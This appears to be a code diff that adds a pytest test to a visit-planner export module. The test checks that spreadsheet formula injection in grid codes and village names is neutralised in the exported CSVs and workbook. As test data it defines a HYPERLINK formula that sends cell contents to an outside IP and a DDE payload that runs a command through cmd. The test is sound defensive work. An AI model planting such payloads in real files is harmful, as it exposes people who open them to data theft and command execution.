@@ -6,6 +6,7 @@ import errno
 import re
 import time
 import zipfile
+from dataclasses import replace
 from datetime import UTC, datetime
 from pathlib import Path
 from xml.etree import ElementTree
@@ -303,3 +304,54 @@ def test_a_failed_workbook_leaves_the_earlier_export(
     )
     monkeypatch.undo()
     assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
+
+
+EVIL_GRID = '=HYPERLINK("http://198.51.100.9/?d="&A2,"点击查看")'
+EVIL_VILLAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_text_from_the_inputs_that_opens_as_a_formula_is_never_run(  # type: ignore[no-untyped-def]
+    small_prefecture, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """A grid code and a village name as the contracts accept them (any non-blank text) but
+    written as spreadsheet formulas: the CSVs a clerk opens in Excel give them a leading
+    ``'`` (text, never run), every other cell as it was; the workbook has them as plain
+    strings (``write_string``: no formula element anywhere)."""
+    from tests.visit_planner.helpers import assign_run, short_staffed, write_inputs
+
+    pref = short_staffed(
+        small_prefecture,
+        {"532623001": {}, "532624001": {"cadre": 0, "village_official": 1, "grid_worker": 1}},
+    )
+    grid = pref.households.filter(pl.col("township_id") == "532623001")["grid_id"][0]
+    village = pref.households.filter(pl.col("township_id") == "532624001")["village_id"][0]
+    regrid = pl.when(pl.col("grid_id") == grid).then(pl.lit(EVIL_GRID)).otherwise("grid_id")
+    pref = replace(
+        pref,
+        households=pref.households.with_columns(grid_id=regrid),
+        workers=pref.workers.with_columns(grid_id=regrid),
+        places=pref.places.with_columns(
+            name_zh=pl.when(pl.col("code") == village).then(pl.lit(EVIL_VILLAGE))
+            .otherwise("name_zh")
+        ),
+    )  # fmt: skip
+    inputs = write_inputs(pref, tmp_path_factory.mktemp("evil_inputs"), places=True)
+    run = assign_run(inputs, tmp_path_factory.mktemp("evil_run") / "run")
+    summary = export_visit_lists(run, tmp_path_factory.mktemp("evil") / "lists", month="2026-11")
+
+    lists, unassigned = _csv(summary.csv), _csv(summary.unassigned_csv)
+    assert (lists["grid_id"] == f"'{EVIL_GRID}").sum() > 0
+    assert (unassigned["village_name"] == f"'{EVIL_VILLAGE}").sum() > 0
+    for frame in (lists, unassigned):
+        for name in frame.columns:
+            assert not frame[name].str.contains(r"^[=+\-@]").any(), name
+    plan = pl.read_parquet(run / "plan.parquet").filter(pl.col("worker_id").is_not_null())
+    assert sorted(lists["household_id"]) == sorted(plan["household_id"])  # ids unchanged
+    assert (
+        lists.filter(pl.col("grid_id") != f"'{EVIL_GRID}")["grid_id"].str.starts_with("5326").all()
+    )
+
+    book = _Book(summary.workbook)
+    assert not any("<f>" in xml or "<f " in xml for xml in book.xml.values())
+    cells = {cell[1] for sheet in book.names for row in book.rows(sheet) for cell in row if cell}
+    assert EVIL_GRID in cells and EVIL_VILLAGE in cells
